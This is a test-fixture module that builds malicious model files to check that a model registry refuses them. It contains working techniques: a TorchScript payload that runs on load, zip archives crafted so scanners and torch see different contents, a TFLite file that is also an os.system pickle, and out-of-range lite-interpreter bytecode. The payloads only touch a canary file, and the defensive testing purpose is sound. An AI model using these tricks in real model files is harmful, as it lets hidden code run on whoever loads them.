"""Model files that run code on whoever loads them, built for the tests (none is committed).

Each attack hides a payload from one reader and shows it to another. The payload writes to
CANARY when torch loads the file; `loaders_that_run` loads a file with torch's loaders in
subprocesses and says which of them ran it, so a test proves both that the attack is real and
that the registry refused it.
"""

from __future__ import annotations

import functools
import io
import os
import pickle
import re
import struct
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

from tests.factories.zipcraft import (
    Member,
    end_record,
    inside_protobuf,
    layout,
    members_of,
    pieces,
    replace,
    two_directories,
)

# A payload writes here; the tests check it (one per test process: runs may overlap).
CANARY = Path(f"/tmp/modelreg-hostile-canary-{os.getpid()}")
PROJECT = Path(__file__).resolve().parent.parent.parent
# The payload's line as torch prints it (the path may be hoisted into a local: `_0 = "..."`).
SAVE_LINE = re.compile(rb"^    torch\.save\(x, [^\n]*\)\n", re.MULTILINE)

_SOURCE = f"""
import sys
from typing import Tuple
import torch

class Loader(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.x = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.x, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.x = state[0]
        self.training = state[1]
        torch.save(self.x, "{CANARY}")

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.x

class Benign(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.x = torch.ones(1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x + self.x

out = sys.argv[1]
evil = torch.jit.script(Loader())
torch.jit.save(evil, out + "/evil.pt")
evil._save_for_lite_interpreter(out + "/evil.ptl")
torch.jit.script(Benign())._save_for_lite_interpreter(out + "/benign.ptl")
"""


@functools.cache
def _archives() -> dict[str, bytes]:
    """evil.pt, evil.ptl (whose __setstate__ writes CANARY) and benign.ptl, scripted once per
    session in a subprocess (torch.jit.script needs the class's source file)."""
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "evil_source.py"
        source.write_text(_SOURCE)
        subprocess.run([sys.executable, str(source), folder], check=True, capture_output=True)
        return {n: (Path(folder) / n).read_bytes() for n in ("evil.pt", "evil.ptl", "benign.ptl")}


def evil_members(name: str = "evil.pt") -> list[Member]:
    return members_of(_archives()[name])


def _code(members: list[Member]) -> bytes:
    return next(m.data for m in members if m.name.endswith("code/__torch__.py"))


def clean_members(name: str = "evil.pt") -> list[Member]:
    """The evil archive with the payload's line removed from its code."""
    members = evil_members(name)
    code, count = SAVE_LINE.subn(b"", _code(members))
    assert count == 1, "the evil archive's code no longer prints its payload as expected"
    return replace(members, "code/__torch__.py", code)


def evil_archive() -> bytes:
    return layout(evil_members())


def code_variant(payload: str) -> bytes:
    """The evil archive with its `torch.save(...)` line written another way."""
    members = evil_members()
    line = payload.replace("CANARY", str(CANARY)).encode()
    code, count = SAVE_LINE.subn(lambda _: line, _code(members))
    assert count == 1, "the evil archive's code no longer prints its payload as expected"
    return layout(replace(members, "code/__torch__.py", code))


# -- zip readers that disagree ----------------------------------------------------------------
def two_central_directories() -> bytes:
    """Python's zipfile sees the clean archive; torch's reader follows the recorded offset to
    the evil one."""
    return two_directories(evil_members(), clean_members())


def prepended() -> bytes:
    """An entry no central directory lists, in front of the archive (offsets absolute): torch
    loads the archive, and the hidden entry is data no listing shows."""
    hidden = pieces([Member("evil/extra/hidden", b"#!/bin/sh\necho hidden\n")]).locals
    return layout(evil_members(), prefix=hidden)


def relative_offsets() -> bytes:
    """Data before the archive, its offsets relative (Python's zipfile adds a `concat`, torch's
    reader does not): two readers, two views."""
    prefix = pieces([Member("evil/extra/hidden", b"in front")]).locals
    built = pieces(clean_members(), len(prefix), shift=len(prefix))
    return (
        prefix
        + built.locals
        + built.directory
        + end_record(len(clean_members()), len(built.directory), len(built.locals))
    )


def second_end_record() -> bytes:
    """An end record whose comment is another end record: readers pick different ones."""
    archive = bytearray(evil_archive())
    fake = end_record(1, 46, 0)
    struct.pack_into("<H", archive, len(archive) - 2, len(fake))
    return bytes(archive) + fake


def case_folded_code() -> bytes:
    """The clean code at its name, the evil code at the same name in capitals: torch's reader
    matches names ignoring case."""
    root = evil_members()[0].name.split("/")[0]
    return layout([*clean_members(), Member(f"{root}/CODE/__torch__.py", _code(evil_members()))])


# -- lite interpreter -------------------------------------------------------------------------
def lite_with_clean_code() -> bytes:
    """A .ptl whose code/ is clean while bytecode.pkl still calls aten::save."""
    return layout(clean_members("evil.ptl"))


def lite_operand_out_of_range() -> bytes:
    """A harmless .ptl whose forward builds a list of 60 values from a stack of two: the lite
    interpreter does not check operands and reads, then frees, memory before its stack."""
    members = evil_members("benign.ptl")
    value = pickle.loads(next(m.data for m in members if m.name.endswith("/bytecode.pkl")))
    functions = []
    for name, sections, *rest in value[1:]:
        if name.endswith(".forward"):
            table = dict(sections)
            table["instructions"] = (("STOREN", 1, 2), ("LIST_CONSTRUCT", 0, 60), ("RET", 0, 0))
            table["types"] = ("List[Tensor]",)
            sections = tuple(table.items())
        functions.append((name, sections, *rest))
    bytecode = pickle.dumps((value[0], *functions), protocol=2)
    return layout(replace(members, "bytecode.pkl", bytecode))


def type_comment_smuggling() -> bytes:
    """Two classes Loader: Python's tokenizer drops the `# type:` comment and sees the clean one,
    torch's lexer reads on into a string that swallows it and compiles the evil one."""
    members = evil_members()
    clean = _code(clean_members()).decode()
    evil = _code(members).decode()
    clean_head = clean[: clean.index("    x0 = self.x")]
    code = f"import __torch__ # type: '''\n{clean_head}    '''\n{evil}# '''\n"
    return layout(replace(members, "code/__torch__.py", code.encode()))


def lite_code_disagrees() -> bytes:
    """A harmless .ptl whose bytecode calls aten::add while its code was edited not to."""
    members = evil_members("benign.ptl")
    code = _code(members).replace(b"torch.add(x, x0)", b"x")
    return layout(replace(members, "code/__torch__.py", code))


# -- one file, two formats --------------------------------------------------------------------
def onnx_holding_archive() -> bytes:
    onnx = (PROJECT / "models/iris-mlp/1.0.0/model.onnx").read_bytes()
    return inside_protobuf(onnx, evil_members())


def tflite_with_archive() -> bytes:
    tflite = (PROJECT / "models/keyword-dense/2.0.0/model.tflite").read_bytes()
    return layout(evil_members(), prefix=tflite)


# Opcodes a partial unpickler may not know, which CPython's reads and goes on from: SHORT_BINBYTES
# b"x", READONLY_BUFFER (protocol 5), POP.
READONLY_BUFFER = b"C\x01x\x980"


def tflite_starting_with_pickle(before: bytes = b"") -> bytes:
    """A valid TFLite model whose first bytes are also a pickle that runs a command: padding
    inserted after the file identifier moves the root table so that its offset reads as the
    pickle opcode SHORT_BINUNICODE, whose string swallows the identifier. `before`: opcodes
    run before the payload."""
    tflite = bytearray((PROJECT / "models/keyword-dense/2.0.0/model.tflite").read_bytes())
    root = struct.unpack_from("<I", tflite, 0)[0]
    swallowed = 8  # the string's length: up to and past the TFL3 identifier
    new_root = 0x8C + 256 * swallowed
    while (new_root - root) % 16:  # keep every table 16-byte aligned as it was
        swallowed += 1
        new_root = 0x8C + 256 * swallowed
    inserted = bytearray(new_root - root)
    pickle_at = 2 + swallowed - 8  # where the string ends, counted from the inserted bytes
    command = f"echo ran > {CANARY}".encode()
    payload = before + b"\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(command)])
    payload += command + b"\x85R."
    inserted[pickle_at : pickle_at + len(payload)] = payload
    data = tflite[:8] + inserted + tflite[8:]
    struct.pack_into("<I", data, 0, new_root)
    return bytes(data)


# -- proof that an attack is real ---------------------------------------------------------------
LOADERS = {
    "torch.jit.load": "torch.jit.load(path)",
    "_load_for_lite_interpreter": (
        "from torch.jit.mobile import _load_for_lite_interpreter; _load_for_lite_interpreter(path)"
    ),
    "torch.load(weights_only=False)": "torch.load(path, weights_only=False)",
}


def loaders_that_run(path: Path) -> list[str]:
    """The loaders under which the file changes CANARY (each in its own process)."""
    ran = []
    for name, call in LOADERS.items():
        CANARY.write_bytes(bytes(64))
        subprocess.run(
            [sys.executable, "-c", f"import torch; path = {str(path)!r}; {call}"],
            capture_output=True,
            timeout=300,
            check=False,
        )
        if CANARY.exists() and CANARY.read_bytes() != bytes(64):
            ran.append(name)
    CANARY.unlink(missing_ok=True)
    return ran


def zip_listing(data: bytes) -> list[str]:
    """What Python's zipfile says the archive holds (a scanner built on it sees this)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()
